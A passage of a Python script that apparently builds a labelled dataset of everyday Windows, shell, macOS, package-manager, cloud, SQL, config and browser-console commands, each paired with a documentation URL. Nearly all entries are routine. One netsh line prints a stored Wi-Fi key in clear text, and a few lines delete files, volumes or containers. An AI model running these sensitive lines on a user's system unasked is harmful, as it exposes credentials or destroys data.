            "Select-String -Path C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex261207.log -Pattern ' 500 ' | Select-Object -Last 20",
        ),
        (
            "microsoft.powershell.management/copy-item",
            "Copy-Item -Path \\\\fs01\\Install\\Office\\setup.exe -Destination C:\\Temp\\Office\\ -Force",
        ),
        (
            "microsoft.powershell.management/new-psdrive",
            'New-PSDrive -Name P -PSProvider FileSystem -Root "\\\\fs01\\Projects" -Persist',
        ),
        (
            "microsoft.powershell.utility/export-csv",
            "Get-LocalUser | Select-Object Name, Enabled, LastLogon | Export-Csv C:\\Temp\\local-users.csv -NoTypeInformation -Encoding UTF8",
        ),
        (
            "microsoft.powershell.localaccounts/add-localgroupmember",
            'Add-LocalGroupMember -Group "Remote Desktop Users" -Member "CORP\\helpdesk-l1"',
        ),
    ]
    for page, text in PS:
        add("admin-powershell", TERM, LEARN + page, text)

    # --- cmd (terminal) ------------------------------------------------------------------------------
    CMDDOC = "https://learn.microsoft.com/en-us/windows-server/administration/windows-commands/"
    CMD = [
        ("ipconfig", "ipconfig /release && ipconfig /renew && ipconfig /flushdns"),
        ("sfc", "sfc /scannow"),
        ("dism", "DISM /Online /Cleanup-Image /RestoreHealth"),
        ("netsh", 'netsh wlan show profile name="Office-WiFi" key=clear'),
        ("netsh", "netsh winhttp show proxy"),
        (
            "robocopy",
            'robocopy "D:\\Projects" "\\\\nas01\\backup\\Projects" /MIR /Z /R:2 /W:5 /MT:16 /LOG:C:\\Temp\\robocopy.log',
        ),
        ("gpupdate", "gpupdate /force && gpresult /r /scope computer"),
        ("net-use", "net use P: \\\\fs01\\Projects /persistent:yes"),
        ("chkdsk", "chkdsk C: /f /r"),
        ("tasklist", 'tasklist /fi "imagename eq outlook.exe" /v'),
        ("taskkill", "taskkill /im teams.exe /f"),
        ("powercfg", "powercfg /batteryreport /output C:\\Temp\\battery.html"),
        ("netstat", "netstat -ano | findstr :443"),
        ("w32tm", "w32tm /resync /force && w32tm /query /status"),
        ("manage-bde", "manage-bde -status C:"),
        ("shutdown", 'shutdown /r /t 300 /c "Restart for updates at 17:05"'),
        ("wmic", "wmic bios get serialnumber"),
        (
            "systeminfo",
            'systeminfo | findstr /B /C:"OS Name" /C:"OS Version" /C:"System Boot Time"',
        ),
        ("whoami", "whoami /groups /fo list"),
        ("icacls", 'icacls "D:\\Shares\\HR" /grant "CORP\\HR-Staff:(OI)(CI)M" /T'),
        (
            "schtasks",
            'schtasks /query /fo LIST /v /tn "\\Microsoft\\Windows\\WindowsUpdate\\Scheduled Start"',
        ),
        (
            "reg-query",
            'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion" /v DisplayVersion',
        ),
        ("nslookup", "nslookup -type=mx contoso.com 8.8.8.8"),
        ("tracert", "tracert -d vpn.contoso.com"),
        ("pathping", "pathping -n 10.20.1.1"),
        ("winget", "winget upgrade --all --include-unknown --silent"),
        ("sc-config", "sc config wuauserv start= demand && sc query wuauserv"),
        ("bcdedit", "bcdedit /enum {current}"),
        ("diskpart", "diskpart /s C:\\Temp\\clean-usb.txt"),
        (
            "certutil",
            "certutil -hashfile C:\\Users\\jdoe\\Downloads\\ubuntu-24.04.3-desktop-amd64.iso SHA256",
        ),
    ]
    for page, text in CMD:
        add("admin-cmd", TERM, CMDDOC + page, text)

    # --- shell one-liners (terminal) ----------------------------------------------------------------
    SO = "https://unix.stackexchange.com/questions/"
    SH = [
        ("41550", "find . -name '*.log' -mtime +14 -print0 | xargs -0 rm -f"),
        ("29214", "du -sh -- */ | sort -rh | head -n 15"),
        ("88644", "grep -rn --include='*.py' 'TODO' src/ | wc -l"),
        ("12755", "tar -czvf backup-$(date +%F).tar.gz --exclude='node_modules' ~/projects/webapp"),
        ("30571", "rsync -avz --progress --delete ./site/ deploy@web01.example.org:/var/www/site/"),
        ("94331", "ssh -L 5433:db.internal:5432 bastion.example.org -N"),
        ("81998", "sudo systemctl restart nginx && sudo systemctl status nginx --no-pager"),
        ("139513", "journalctl -u docker.service --since '1 hour ago' --no-pager | tail -50"),
        (
            "25921",
            "awk -F',' 'NR>1 {sum[$3]+=$5} END {for (k in sum) print k, sum[k]}' sales.csv | sort -k2 -nr",
        ),
        (
            "112157",
            "sed -i 's/^#\\?PasswordAuthentication.*/PasswordAuthentication no/' /etc/ssh/sshd_config",
        ),
        ("94018", "sudo lsof -i :8080"),
        ("10426", "ps aux --sort=-%mem | head -n 10"),
        ("52313", "ss -tulpn | grep LISTEN"),
        (
            "147420",
            "openssl s_client -connect example.com:443 -servername example.com </dev/null 2>/dev/null | openssl x509 -noout -dates",
        ),
        ("22615", 'for f in *.jpeg; do mv -- "$f" "${f%.jpeg}.jpg"; done'),
        ("8656", "watch -n 2 'nvidia-smi --query-gpu=utilization.gpu,memory.used --format=csv'"),
        ("73513", 'ssh-keygen -t ed25519 -C "jdoe@laptop" -f ~/.ssh/id_ed25519_work'),
        ("124522", "chmod 600 ~/.ssh/id_ed25519 && chmod 700 ~/.ssh"),
        ("48535", "sudo ufw allow from 192.168.1.0/24 to any port 22 proto tcp"),
        ("67214", "df -hT -x tmpfs -x devtmpfs"),
        ("16168", "curl -I https://www.example.org/"),
        (
            "84686",
            "curl -s https://api.github.com/repos/cli/cli/releases/latest | jq -r '.tag_name'",
        ),
        ("19654", "wget -c https://releases.ubuntu.com/24.04/ubuntu-24.04.3-live-server-amd64.iso"),
        ("3514", "sha256sum -c SHA256SUMS 2>&1 | grep OK"),
        ("60641", "history | awk '{print $2}' | sort | uniq -c | sort -rn | head"),
        ("84381", "sudo apt-get update && sudo apt-get -y upgrade && sudo apt-get -y autoremove"),
        ("113040", "git log --since='2 weeks ago' --author='Jane' --oneline | wc -l"),
        ("51982", "xargs -a packages.txt sudo apt-get install -y"),
        ("44040", "sudo crontab -l; crontab -e"),
        ("90853", "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.bashrc && source ~/.bashrc"),
        ("61222", "python3 -m http.server 8000 --bind 127.0.0.1"),
        ("35681", "scp -r ./dist user@198.51.100.20:/srv/app/"),
        ("18896", "ffmpeg -i input.mov -vcodec libx264 -crf 23 -preset medium output.mp4"),
        ("137228", "convert input.png -resize 50% output.png"),
        ("159300", "iostat -xz 1 5"),
        ("88487", "sudo dmesg -T | tail -30"),
        ("118433", "nc -zv db01.internal 5432"),
        ("112231", "base64 -d <<< 'aGVsbG8gd29ybGQK'"),
        ("10922", "zip -r site.zip public/ -x '*.DS_Store'"),
        ("20946", "sudo usermod -aG docker $USER && newgrp docker"),
        (
            "64098",
            "mkdir -p ~/venvs && python3 -m venv ~/venvs/tools && source ~/venvs/tools/bin/activate",
        ),
        ("130795", "tmux new -s deploy -d 'htop'"),
        ("78105", "sudo certbot --nginx -d example.org -d www.example.org"),
        ("60219", "dig +short TXT _dmarc.example.org"),
        ("84447", "sudo tcpdump -i eth0 port 53 -nn -c 50"),
        ("33014", "pkill -f 'gunicorn: worker' ; sleep 2; pgrep -af gunicorn"),
    ]
    for page, text in SH:
        add("shell-oneliner", TERM, SO + page, text)

    # macOS admin / dev (terminal)
    MAC = [
        ("https://support.apple.com/en-us/102662", "sudo softwareupdate -l"),
        (
            "https://support.apple.com/guide/terminal/welcome/mac",
            "defaults write com.apple.finder AppleShowAllFiles -bool true; killall Finder",
        ),
        (
            "https://support.apple.com/en-us/101578",
            "sudo /Applications/Install\\ macOS\\ Sequoia.app/Contents/Resources/createinstallmedia --volume /Volumes/MyVolume",
        ),
        (
            "https://support.apple.com/guide/deployment/depdf4cab1a8/web",
            "sudo profiles show -type enrollment",
        ),
        ("https://ss64.com/mac/pmset.html", "pmset -g batt"),
        ("https://ss64.com/mac/diskutil.html", "diskutil list external physical"),
        ("https://ss64.com/mac/networksetup.html", "networksetup -getdnsservers Wi-Fi"),
        (
            "https://ss64.com/mac/dscacheutil.html",
            "sudo dscacheutil -flushcache; sudo killall -HUP mDNSResponder",
        ),
        ("https://ss64.com/mac/mdfind.html", "mdfind -name 'Quarterly Report' -onlyin ~/Documents"),
        ("https://ss64.com/mac/xattr.html", "xattr -l ~/Downloads/Keynote-Theme.zip"),
        (
            "https://developer.apple.com/documentation/xcode/installing-the-command-line-tools",
            "xcode-select --install",
        ),
        ("https://docs.brew.sh/FAQ", "brew update && brew upgrade && brew cleanup -s"),
        ("https://formulae.brew.sh/formula/ffmpeg", "brew install ffmpeg"),
        ("https://ss64.com/mac/caffeinate.html", "caffeinate -dimsu -t 7200"),
        (
            "https://ss64.com/mac/screencapture.html",
            "defaults write com.apple.screencapture location ~/Pictures/Screenshots",
        ),
        ("https://ss64.com/mac/tmutil.html", "tmutil listbackups | tail -3"),
    ]
    for page, text in MAC:
        add("macos-admin", TERM, page, text)

    # --- package managers (terminal) -------------------------------------------------------------------
    PKG = [
        ("https://pypi.org/project/requests/", "pip install requests==2.32.5"),
        ("https://pypi.org/project/pandas/", "python -m pip install --upgrade pandas openpyxl"),
        ("https://docs.astral.sh/uv/guides/tools/", "uv tool install ruff"),
        (
            "https://docs.astral.sh/uv/concepts/projects/dependencies/",
            "uv add 'fastapi[standard]' --dev pytest",
        ),
        ("https://pipx.pypa.io/stable/", "pipx install pre-commit"),
        (
            "https://www.npmjs.com/package/typescript",
            "npm install --save-dev typescript@5.9 @types/node",
        ),
        ("https://www.npmjs.com/package/eslint", "npm init @eslint/config@latest"),
        ("https://vite.dev/guide/", "npm create vite@latest my-app -- --template react-ts"),
        (
            "https://nextjs.org/docs/app/getting-started/installation",
            "npx create-next-app@latest dashboard --ts --tailwind --app",
        ),
        ("https://pnpm.io/cli/add", "pnpm add -D vitest @vitest/coverage-v8"),
        ("https://yarnpkg.com/cli/add", "yarn add zod react-hook-form"),
        ("https://bun.sh/docs/cli/add", "bun add hono"),
        ("https://crates.io/crates/ripgrep", "cargo install ripgrep"),
        (
            "https://doc.rust-lang.org/cargo/commands/cargo-add.html",
            "cargo add serde --features derive",
        ),
        (
            "https://pkg.go.dev/golang.org/x/tools/gopls",
            "go install golang.org/x/tools/gopls@latest",
        ),
        (
            "https://go.dev/doc/tutorial/getting-started",
            "go mod init example.com/hello && go mod tidy",
        ),
        ("https://rubygems.org/gems/rails", "gem install rails -v 8.0.2"),
        (
            "https://getcomposer.org/doc/01-basic-usage.md",
            "composer require guzzlehttp/guzzle:^7.9",
        ),
        (
            "https://community.chocolatey.org/packages/git",
            'choco install git -y --params "/GitAndUnixToolsOnPath /NoAutoCrlf"',
        ),
        (
            "https://winget.run/pkg/Microsoft/VisualStudioCode",
            "winget install -e --id Microsoft.VisualStudioCode",
        ),
        ("https://scoop.sh/#/apps?q=7zip", "scoop install 7zip"),
        ("https://packages.ubuntu.com/noble/htop", "sudo apt install htop"),
        (
            "https://docs.fedoraproject.org/en-US/quick-docs/dnf/",
            "sudo dnf install -y podman-compose",
        ),
        ("https://wiki.archlinux.org/title/Pacman", "sudo pacman -Syu --needed base-devel git"),
        (
            "https://formulae.brew.sh/cask/visual-studio-code",
            "brew install --cask visual-studio-code",
        ),
        ("https://flathub.org/apps/org.gimp.GIMP", "flatpak install flathub org.gimp.GIMP"),
        ("https://snapcraft.io/install/code/ubuntu", "sudo snap install code --classic"),
        (
            "https://conda.io/projects/conda/en/latest/user-guide/tasks/manage-environments.html",
            "conda create -n geo python=3.12 geopandas -c conda-forge",
        ),
        (
            "https://www.nuget.org/packages/Newtonsoft.Json",
            "dotnet add package Newtonsoft.Json --version 13.0.3",
        ),
        (
            "https://mvnrepository.com/artifact/org.postgresql/postgresql",
            "mvn dependency:get -Dartifact=org.postgresql:postgresql:42.7.7",
        ),
        (
            "https://cran.r-project.org/web/packages/tidyverse/index.html",
            'install.packages(c("tidyverse", "janitor"))',
        ),
        ("https://docs.npmjs.com/cli/v11/commands/npm-audit", "npm audit fix --omit=dev"),
        (
            "https://pip.pypa.io/en/stable/cli/pip_install/",
            "pip install -r requirements.txt --no-cache-dir",
        ),
        (
            "https://www.powershellgallery.com/packages/PSReadLine",
            "Install-Module -Name PSReadLine -AllowPrerelease -Force",
        ),
        (
            "https://docs.github.com/en/copilot/how-tos/set-up/install-copilot-cli",
            "npm install -g @github/copilot",
        ),
    ]
    for page, text in PKG:
        add("package-manager", TERM, page, text)

    # --- docker / kubectl / git / cloud CLIs (terminal) ----------------------------------------------
    DEV = [
        (
            "https://docs.docker.com/reference/cli/docker/container/run/",
            "docker run -d --name pg -e POSTGRES_PASSWORD=devpass -p 5432:5432 -v pgdata:/var/lib/postgresql/data postgres:17",
        ),
        (
            "https://docs.docker.com/reference/cli/docker/compose/up/",
            "docker compose up -d --build && docker compose logs -f web",
        ),
        (
            "https://docs.docker.com/reference/cli/docker/system/prune/",
            "docker system prune -af --volumes",
        ),
        (
            "https://docs.docker.com/reference/cli/docker/buildx/build/",
            "docker buildx build --platform linux/amd64,linux/arm64 -t ghcr.io/acme/api:1.4.2 --push .",
        ),
        (
            "https://docs.docker.com/reference/cli/docker/container/exec/",
            "docker exec -it pg psql -U postgres -d app",
        ),
        (
            "https://docs.docker.com/reference/cli/docker/image/ls/",
            "docker images --format '{{.Repository}}:{{.Tag}} {{.Size}}' | sort -k2 -h",
        ),
        (
            "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
            "kubectl get pods -A --field-selector=status.phase!=Running",
        ),
        (
            "https://kubernetes.io/docs/reference/kubectl/quick-reference/",
            "kubectl logs deploy/api -n prod --since=15m --tail=200 -f",
        ),
        (
            "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_rollout/",
            "kubectl rollout restart deployment/web -n staging && kubectl rollout status deployment/web -n staging",
        ),
        (
            "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_port-forward/",
            "kubectl port-forward svc/grafana 3000:80 -n monitoring",
        ),
        (
            "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_describe/",
            "kubectl describe node ip-10-0-3-14.eu-west-1.compute.internal | grep -A5 Conditions",
        ),
        (
            "https://kubernetes.io/docs/tasks/configmap-secret/managing-secret-using-kubectl/",
            "kubectl create secret generic db-creds --from-literal=username=app --from-literal=password='S3cure!' -n prod --dry-run=client -o yaml",
        ),
        (
            "https://kubernetes.io/docs/reference/kubectl/generated/kubectl_top/",
            "kubectl top pods -n prod --sort-by=memory | head",
        ),
        (
            "https://helm.sh/docs/helm/helm_upgrade/",
            "helm upgrade --install ingress-nginx ingress-nginx/ingress-nginx -n ingress-nginx --create-namespace --version 4.13.0",
        ),
        (
            "https://git-scm.com/docs/git-clone",
            "git clone --depth 1 --branch v2.4.0 https://github.com/acme-corp/billing-service.git",
        ),
        ("https://git-scm.com/docs/git-rebase", "git fetch origin && git rebase -i origin/main"),
        (
            "https://git-scm.com/docs/git-stash",
            "git stash push -m 'wip: login form' -- src/components/Login.tsx",
        ),
        ("https://git-scm.com/docs/git-reset", "git reset --soft HEAD~1"),
        (
            "https://git-scm.com/docs/git-bisect",
            "git bisect start HEAD v1.8.0 && git bisect run npm test",
        ),
        (
            "https://git-scm.com/docs/git-config",
            'git config --global user.email "jane.doe@example.com" && git config --global pull.rebase true',
        ),
        (
            "https://git-scm.com/docs/git-worktree",
            "git worktree add ../hotfix-1.9 -b hotfix/1.9 origin/release/1.9",
        ),
        ("https://git-scm.com/docs/git-cherry-pick", "git cherry-pick -x 4f2a9c1"),
        ("https://git-scm.com/docs/git-log", "git log --graph --oneline --decorate --all -n 30"),
        (
            "https://docs.github.com/en/github-cli/github-cli/quickstart",
            "gh pr create --fill --base main --label bug",
        ),
        ("https://cli.github.com/manual/gh_run_watch", "gh run watch --exit-status"),
        (
            "https://docs.aws.amazon.com/cli/latest/reference/s3/sync.html",
            "aws s3 sync ./build s3://acme-static-site --delete --cache-control max-age=300",
        ),
        (
            "https://docs.aws.amazon.com/cli/latest/reference/sts/get-caller-identity.html",
            "aws sts get-caller-identity --profile prod-readonly",
        ),
        (
            "https://docs.aws.amazon.com/cli/latest/reference/ec2/describe-instances.html",
            "aws ec2 describe-instances --filters Name=tag:Env,Values=prod --query 'Reservations[].Instances[].[InstanceId,State.Name]' --output table",
        ),
        (
            "https://learn.microsoft.com/en-us/cli/azure/vm",
            'az vm list -d -g rg-prod-weu --query "[].{name:name, state:powerState}" -o table',
        ),
        (
            "https://learn.microsoft.com/en-us/cli/azure/account",
            'az account set --subscription "Contoso Production"',
        ),
        (
            "https://cloud.google.com/sdk/gcloud/reference/compute/ssh",
            "gcloud compute ssh web-1 --zone europe-west1-b --tunnel-through-iap",
        ),
        (
            "https://developer.hashicorp.com/terraform/cli/commands/plan",
            "terraform plan -var-file=env/prod.tfvars -out=tfplan",
        ),
        (
            "https://developer.hashicorp.com/terraform/cli/commands/state/rm",
            "terraform state rm 'module.legacy_vpc.aws_vpc.this'",
        ),
        (
            "https://docs.ansible.com/ansible/latest/cli/ansible-playbook.html",
            "ansible-playbook -i inventory/prod site.yml --limit web --check --diff",
        ),
        (
            "https://docs.npmjs.com/cli/v11/commands/npm-run",
            "npm run build && npm run test -- --coverage",
        ),
        (
            "https://docs.pytest.org/en/stable/how-to/usage.html",
            "pytest -x -q tests/test_api.py -k 'login and not slow'",
        ),
        (
            "https://docs.djangoproject.com/en/5.2/ref/django-admin/",
            "python manage.py makemigrations && python manage.py migrate",
        ),
        (
            "https://guides.rubyonrails.org/command_line.html",
            "bin/rails db:migrate RAILS_ENV=production",
        ),
        (
            "https://www.postgresql.org/docs/current/app-pgdump.html",
            "pg_dump -h localhost -U app -Fc app_prod > app_prod_$(date +%Y%m%d).dump",
        ),
        (
            "https://redis.io/docs/latest/develop/tools/cli/",
            "redis-cli -h cache.internal --scan --pattern 'session:*' | head",
        ),
        ("https://podman.io/docs", "podman run --rm -it registry.fedoraproject.org/fedora:42 bash"),
        (
            "https://minikube.sigs.k8s.io/docs/start/",
            "minikube start --driver=docker --cpus=4 --memory=8g",
        ),
    ]
    for page, text in DEV:
        add("dev-cli", TERM, page, text)

    # --- SQL ---------------------------------------------------------------------------------------
    SQL = [
        (
            "https://www.postgresql.org/docs/current/sql-select.html",
            "SELECT customer_id, COUNT(*) AS orders, SUM(total) AS revenue\nFROM orders\nWHERE created_at >= now() - interval '30 days'\nGROUP BY customer_id\nORDER BY revenue DESC\nLIMIT 20;",
        ),
        (
            "https://www.postgresql.org/docs/current/monitoring-stats.html",
            "SELECT pid, usename, state, now() - query_start AS runtime, left(query, 80)\nFROM pg_stat_activity\nWHERE state <> 'idle'\nORDER BY runtime DESC;",
        ),
        (
            "https://www.postgresql.org/docs/current/sql-createindex.html",
            "CREATE INDEX CONCURRENTLY idx_orders_customer_created ON orders (customer_id, created_at DESC);",
        ),
        (
            "https://www.postgresql.org/docs/current/sql-altertable.html",
            "ALTER TABLE invoices ADD COLUMN paid_at timestamptz NULL;",
        ),
        ("https://dev.mysql.com/doc/refman/8.4/en/show-processlist.html", "SHOW FULL PROCESSLIST;"),
        (
            "https://dev.mysql.com/doc/refman/8.4/en/create-user.html",
            "CREATE USER 'report'@'10.0.%' IDENTIFIED BY '<password>';\nGRANT SELECT ON shop.* TO 'report'@'10.0.%';",
        ),
        (
            "https://learn.microsoft.com/en-us/sql/t-sql/statements/backup-transact-sql",
            "BACKUP DATABASE [Sales] TO DISK = N'E:\\Backup\\Sales_full.bak' WITH COMPRESSION, CHECKSUM, STATS = 10;",
        ),
        (
            "https://learn.microsoft.com/en-us/sql/relational-databases/system-dynamic-management-views/sys-dm-exec-requests-transact-sql",
            "SELECT session_id, status, command, wait_type, blocking_session_id, total_elapsed_time\nFROM sys.dm_exec_requests\nWHERE session_id > 50;",
        ),
        (
            "https://www.sqlite.org/lang_with.html",
            "WITH RECURSIVE cnt(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM cnt WHERE x < 10) SELECT x FROM cnt;",
        ),
        ("https://www.sqlite.org/pragma.html", "PRAGMA journal_mode=WAL; PRAGMA integrity_check;"),
        (
            "https://mode.com/sql-tutorial/sql-window-functions",
            "SELECT employee_id, department, salary,\n       RANK() OVER (PARTITION BY department ORDER BY salary DESC) AS dept_rank\nFROM employees;",
        ),
        (
            "https://cloud.google.com/bigquery/docs/reference/standard-sql/query-syntax",
            "SELECT DATE(event_timestamp) AS day, COUNT(DISTINCT user_pseudo_id) AS users\nFROM `acme-analytics.analytics_123.events_*`\nWHERE _TABLE_SUFFIX BETWEEN '20261101' AND '20261130'\nGROUP BY day ORDER BY day;",
        ),
        (
            "https://docs.snowflake.com/en/sql-reference/sql/copy-into-table",
            "COPY INTO raw.orders FROM @stage/orders/ FILE_FORMAT = (TYPE = 'CSV' SKIP_HEADER = 1) ON_ERROR = 'CONTINUE';",
        ),
        (
            "https://www.postgresql.org/docs/current/sql-update.html",
            "UPDATE users SET email_verified = true WHERE id IN (SELECT user_id FROM verifications WHERE verified_at IS NOT NULL);",
        ),
        (
            "https://www.postgresql.org/docs/current/sql-delete.html",
            "BEGIN;\nDELETE FROM sessions WHERE expires_at < now() - interval '7 days';\nCOMMIT;",
        ),
        (
            "https://www.postgresql.org/docs/current/sql-explain.html",
            "EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM orders WHERE customer_id = 4211;",
        ),
        (
            "https://learn.microsoft.com/en-us/sql/t-sql/queries/select-transact-sql",
            "SELECT TOP (100) * FROM dbo.AuditLog WITH (NOLOCK) ORDER BY EventTime DESC;",
        ),
        (
            "https://clickhouse.com/docs/sql-reference/statements/select",
            "SELECT toStartOfHour(ts) AS h, count() FROM logs.requests WHERE status >= 500 GROUP BY h ORDER BY h DESC LIMIT 24;",
        ),
        (
            "https://www.postgresql.org/docs/current/sql-grant.html",
            "GRANT USAGE ON SCHEMA analytics TO readonly;\nGRANT SELECT ON ALL TABLES IN SCHEMA analytics TO readonly;",
        ),
        (
            "https://dev.mysql.com/doc/refman/8.4/en/information-schema-tables-table.html",
            "SELECT table_name, ROUND((data_length + index_length)/1024/1024, 1) AS mb\nFROM information_schema.tables WHERE table_schema = 'shop' ORDER BY mb DESC;",
        ),
    ]
    for page, text in SQL:
        add("sql", UNK, page, text)

    # --- config snippets ---------------------------------------------------------------------------
    CONF = [
        (
            "https://nginx.org/en/docs/http/ngx_http_proxy_module.html",
            "location /api/ {\n    proxy_pass http://127.0.0.1:8000/;\n    proxy_set_header Host $host;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n    proxy_read_timeout 60s;\n}",
        ),
        (
            "https://docs.github.com/en/actions/writing-workflows/quickstart",
            "name: CI\non: [push, pull_request]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-python@v5\n        with:\n          python-version: '3.12'\n      - run: pip install -r requirements.txt && pytest -q",
        ),
        (
            "https://docs.astral.sh/uv/guides/integration/github/",
            "      - name: Install uv\n        uses: astral-sh/setup-uv@v6\n      - run: uv sync --locked --all-extras --dev\n      - run: uv run pytest",
        ),
        (
            "https://docs.docker.com/compose/compose-file/05-services/",
            'services:\n  web:\n    build: .\n    ports:\n      - "8080:8080"\n    env_file: .env\n    depends_on:\n      - db\n  db:\n    image: postgres:17\n    volumes:\n      - pgdata:/var/lib/postgresql/data\nvolumes:\n  pgdata:',
        ),
        (
            "https://man.openbsd.org/ssh_config",
            "Host bastion\n    HostName bastion.example.org\n    User jdoe\n    IdentityFile ~/.ssh/id_ed25519_work\n\nHost db-*\n    ProxyJump bastion\n    User admin",
        ),
        (
            "https://www.freedesktop.org/software/systemd/man/latest/systemd.service.html",
            "[Unit]\nDescription=Gunicorn for app\nAfter=network.target\n\n[Service]\nUser=app\nWorkingDirectory=/srv/app\nExecStart=/srv/app/.venv/bin/gunicorn app.wsgi:application -b 127.0.0.1:8000 -w 4\nRestart=on-failure\n\n[Install]\nWantedBy=multi-user.target",
        ),
        (
            "https://prettier.io/docs/configuration",
            '{\n  "semi": false,\n  "singleQuote": true,\n  "printWidth": 100,\n  "trailingComma": "all"\n}',
        ),
        (
            "https://code.visualstudio.com/docs/getstarted/settings",
            '{\n  "editor.formatOnSave": true,\n  "files.trimTrailingWhitespace": true,\n  "python.defaultInterpreterPath": "${workspaceFolder}/.venv/bin/python",\n  "terminal.integrated.defaultProfile.windows": "PowerShell"\n}',
        ),
        (
            "https://docs.python.org/3/library/logging.config.html",
            "[loggers]\nkeys=root\n\n[handlers]\nkeys=console\n\n[formatters]\nkeys=simple\n\n[logger_root]\nlevel=INFO\nhandlers=console",
        ),
        (
            "https://packaging.python.org/en/latest/guides/writing-pyproject-toml/",
            '[project]\nname = "invoice-tools"\nversion = "0.3.1"\nrequires-python = ">=3.11"\ndependencies = ["httpx>=0.27", "pydantic>=2.8"]\n\n[project.scripts]\ninvoice = "invoice_tools.cli:main"',
        ),
        (
            "https://git-scm.com/docs/gitignore",
            "# Python\n__pycache__/\n*.pyc\n.venv/\n.env\n# Node\nnode_modules/\ndist/\n.DS_Store",
        ),
        (
            "https://editorconfig.org/",
            "root = true\n\n[*]\nindent_style = space\nindent_size = 2\nend_of_line = lf\ninsert_final_newline = true\n\n[*.py]\nindent_size = 4",
        ),
        (
            "https://kubernetes.io/docs/concepts/workloads/controllers/deployment/",
            "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: api\nspec:\n  replicas: 3\n  selector:\n    matchLabels: {app: api}\n  template:\n    metadata:\n      labels: {app: api}\n    spec:\n      containers:\n        - name: api\n          image: ghcr.io/acme/api:1.4.2\n          ports: [{containerPort: 8080}]",
        ),
        (
            "https://docs.gitlab.com/ci/yaml/",
            "deploy:\n  stage: deploy\n  image: alpine:3.20\n  script:\n    - apk add --no-cache rsync openssh\n    - rsync -az public/ deploy@web01:/var/www/site/\n  only:\n    - main",
        ),
        (
            "https://caddyserver.com/docs/caddyfile",
            "example.org {\n    encode gzip\n    reverse_proxy localhost:3000\n    log {\n        output file /var/log/caddy/access.log\n    }\n}",
        ),
        (
            "https://learn.microsoft.com/en-us/windows/terminal/customize-settings/profile-general",
            '{\n    "guid": "{574e775e-4f2a-5b96-ac1e-a2962a402336}",\n    "name": "PowerShell 7",\n    "source": "Windows.Terminal.PowershellCore",\n    "startingDirectory": "%USERPROFILE%\\\\src"\n}',
        ),
        (
            "https://www.sudo.ws/docs/man/sudoers.man/",
            "%deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart app.service",
        ),
        (
            "https://docs.renovatebot.com/configuration-options/",
            '{\n  "extends": ["config:recommended"],\n  "schedule": ["before 6am on monday"],\n  "packageRules": [{"matchUpdateTypes": ["minor", "patch"], "automerge": true}]\n}',
        ),
        (
            "https://docs.pre-commit.com/",
            "repos:\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: v0.12.8\n    hooks:\n      - id: ruff\n        args: [--fix]\n      - id: ruff-format",
        ),
        (
            "https://www.jetbrains.com/help/idea/run-debug-configuration.html",
            "DATABASE_URL=postgres://app:devpass@localhost:5432/app\nREDIS_URL=redis://localhost:6379/0\nDEBUG=true\nLOG_LEVEL=debug",
        ),
        (
            "https://learn.microsoft.com/en-us/windows/wsl/wsl-config",
            "[wsl2]\nmemory=8GB\nprocessors=4\nswap=2GB\nlocalhostForwarding=true",
        ),
        (
            "https://developer.hashicorp.com/terraform/language/backend/s3",
            'terraform {\n  backend "s3" {\n    bucket = "acme-tf-state"\n    key    = "prod/network.tfstate"\n    region = "eu-west-1"\n  }\n}',
        ),
    ]
    for page, text in CONF:
        add("config-snippet", UNK, page, text)

    # --- console JavaScript a developer types ---------------------------------------------------
    JS = [
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Document/querySelectorAll",
            "document.querySelectorAll('a[href^=\"http\"]').length",
        ),
        (
            "https://developer.chrome.com/docs/devtools/console/utilities",
            "copy([...document.querySelectorAll('table tr')].map(r => [...r.cells].map(c => c.innerText).join('\\t')).join('\\n'))",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Window/localStorage",
            "localStorage.removeItem('featureFlags'); location.reload()",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Performance/getEntriesByType",
            "performance.getEntriesByType('resource').filter(e => e.duration > 500).map(e => [e.name, Math.round(e.duration)])",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch",
            "await fetch('/api/v1/health').then(r => r.json())",
        ),
        (
            "https://developer.chrome.com/docs/devtools/console/utilities",
            "monitorEvents(window, 'resize')",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Console/table",
            "console.table(JSON.parse(localStorage.getItem('cart') || '[]'))",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Document/designMode",
            "document.designMode = 'on'",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Navigator/serviceWorker",
            "navigator.serviceWorker.getRegistrations().then(rs => rs.forEach(r => r.unregister()))",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Document/cookie",
            "document.cookie.split('; ').map(c => c.split('=')[0])",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Element/getBoundingClientRect",
            "$0.getBoundingClientRect()",
        ),
        (
            "https://developer.chrome.com/docs/devtools/console/utilities",
            "$$('img').filter(i => !i.alt).map(i => i.src)",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Intl/DateTimeFormat",
            "new Intl.DateTimeFormat('de-DE', {dateStyle: 'full'}).format(new Date())",
        ),
        (
            "https://react.dev/learn/react-developer-tools",
            "__REACT_DEVTOOLS_GLOBAL_HOOK__.renderers.size",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Window/getComputedStyle",
            "getComputedStyle(document.body).fontFamily",
        ),
        (
            "https://developer.mozilla.org/en-US/docs/Web/API/Storage/clear",
            "sessionStorage.clear()",
        ),
        (
